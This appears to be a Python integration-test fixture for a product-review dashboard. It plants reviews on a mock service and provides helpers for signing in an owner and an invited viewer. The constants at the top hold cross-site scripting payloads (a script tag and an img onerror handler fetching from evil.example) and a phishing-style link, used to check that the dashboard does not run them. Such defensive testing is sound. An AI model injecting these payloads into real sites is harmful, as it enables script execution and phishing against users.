"""The dashboard under test: where it is, what was planted, and the API's word on what it shows."""

from dataclasses import dataclass
from functools import cached_property
from secrets import token_hex, token_urlsafe

import httpx

from local.stack import LocalStack
from scripts.dashboard_site import Site
from tests.integration.driving import Json, admin, every_page, get, mailed_token

SCRIPT = "<script>document.title='taken'; fetch('//evil.example/script')</script>"
IMAGE = "<img src=x onerror=\"fetch('//evil.example/image')\">"
LINK = "[a free replacement](https://evil.example/claim)"
TEXT = f"{IMAGE} The lid broke after two days. {LINK} {SCRIPT} Very disappointed."


@dataclass(frozen=True)
class Hostile:
    """A planted review whose title and text ask to be run."""

    product_id: str
    review_id: str


def plant_hostile_reviews(stack: LocalStack) -> Hostile:
    """On the mock, before a run reads it."""
    event = admin(stack, "ground-truth")["events"][0]
    place = {"asin": event["product_id"], "marketplace": event["marketplace"]}
    review = {"title": SCRIPT, "text": TEXT}
    planted = admin(stack, "plant", {"kind": "add_review", **place, "review": review})
    return Hostile(f"{planted['marketplace']}-{planted['product_id']}", planted["review_id"])


@dataclass(frozen=True)
class Dashboard:
    """The state that the one run left."""

    stack: LocalStack
    hostile: Hostile

    @cached_property
    def site(self) -> Site:
        return Site.of(self.stack.paths)

    @cached_property
    def pages(self) -> dict[str, str]:
        """Path by name of the pages behind the sign-in."""
        return self.site.pages()

    def get(self, path: str, **params: object) -> Json:
        return get(self.stack, path, **params)

    def cards(self, **filters: object) -> list[Json]:
        """Every product of a list."""
        return list(every_page(self.stack, "/v1/products", limit=100, **filters))

    def a_new_owner(self) -> httpx.Response:
        """Signed in: the owner of an organisation of their own, which has nothing."""
        return self.site.post(
            "/v1/auth/register",
            organisation_name="Other Shop",
            name="Olive Other",
            email=f"olive-{token_hex(4)}@example.com",
            password=token_urlsafe(12),
        )

    def a_viewer(self) -> httpx.Response:
        """Signed in: somebody the demo owner has invited to look."""
        address = f"vera-{token_hex(4)}@example.com"
        invite = {"email": address, "role": "viewer"}
        answer = self.stack.api("POST", "/v1/invites", json=invite)
        assert answer.status_code == 201, answer.text
        token = mailed_token(self.stack, address)
        return self.site.post(
            "/v1/auth/invites/accept", token=token, name="Vera Viewer", password=token_urlsafe(12)
        )

    @cached_property
    def product(self) -> Json:
        """The detail of the product that needs attention most."""
        card = self.get("/v1/products", limit=1)["items"][0]
        return self.get(f"/v1/products/{card['product_id']}")
